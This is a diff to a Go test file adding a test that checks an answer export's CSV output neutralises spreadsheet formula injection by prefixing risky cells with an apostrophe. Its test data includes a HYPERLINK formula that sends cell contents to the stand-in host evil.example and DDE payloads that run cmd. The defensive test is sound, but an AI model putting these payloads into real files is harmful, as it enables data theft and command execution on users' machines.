@@ -6,6 +6,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -159,5 +160,74 @@ func TestExportLeavesOutAnswersCreatedAfterItStarted(t *testing.T) {
 	out := export(t, db, ExportOptions{Format: FormatJSONL, Until: t0.Add(2 * time.Minute)})
 	if n := bytes.Count(out, []byte("\n")); n != len(want)-2 {
 		t.Errorf("%d rows with Until, want %d", n, len(want)-2)
+	}
+}
+
+// TestCSVExportDefusesFormulaInjection: an answer starting with =, +, -,
+// @, a tab or a carriage return ran as a formula when an organiser opened
+// the CSV in a spreadsheet. Such cells now start with an apostrophe
+// (OWASP's CSV injection guidance); Raw keeps them as stored, and JSONL is
+// unchanged.
+func TestCSVExportDefusesFormulaInjection(t *testing.T) {
+	db := openDB(t, "")
+	texts := []string{
+		`=HYPERLINK("http://evil.example/?"&A1;"Cliquez")`,
+		"+33 6 12 34 56 78",
+		"-1+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		"\t=1+1",
+		"\r=1+1",
+		"Une réponse = normale, avec - et @ au milieu",
+	}
+	for i, text := range texts {
+		put(t, db, answerOpt{participant: "telegram:" + string(rune('a'+i)), theme: "acces", question: "equipement", text: text, at: t0})
+	}
+	answers := func(out []byte) []string {
+		t.Helper()
+		r := csv.NewReader(bytes.NewReader(out[3:]))
+		r.Comma = ';'
+		recs, err := r.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, rec := range recs[1:] {
+			got = append(got, rec[11])
+		}
+		slices.Sort(got)
+		return got
+	}
+	// The CSV writer in CRLF mode drops a lone carriage return.
+	noCR := func(s string) string { return strings.ReplaceAll(s, "\r", "") }
+	var want, rawCSV, raw []string
+	for _, text := range texts {
+		raw = append(raw, text)
+		rawCSV = append(rawCSV, noCR(text))
+		if strings.ContainsAny(text[:1], "=+-@\t\r") {
+			text = "'" + text
+		}
+		want = append(want, noCR(text))
+	}
+	slices.Sort(want)
+	slices.Sort(rawCSV)
+	slices.Sort(raw)
+	if diff := cmp.Diff(want, answers(export(t, db, ExportOptions{Format: FormatCSV}))); diff != "" {
+		t.Errorf("CSV cells (-want +got):\n%s", diff)
+	}
+	if diff := cmp.Diff(rawCSV, answers(export(t, db, ExportOptions{Format: FormatCSV, Raw: true}))); diff != "" {
+		t.Errorf("raw CSV cells (-want +got):\n%s", diff)
+	}
+	var got []string
+	sc := bufio.NewScanner(bytes.NewReader(export(t, db, ExportOptions{Format: FormatJSONL})))
+	for sc.Scan() {
+		var r Row
+		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
+			t.Fatal(err)
+		}
+		got = append(got, r.Answer)
+	}
+	slices.Sort(got)
+	if diff := cmp.Diff(raw, got); diff != "" {
+		t.Errorf("JSONL answers (-want +got):\n%s", diff)
 	}
 }
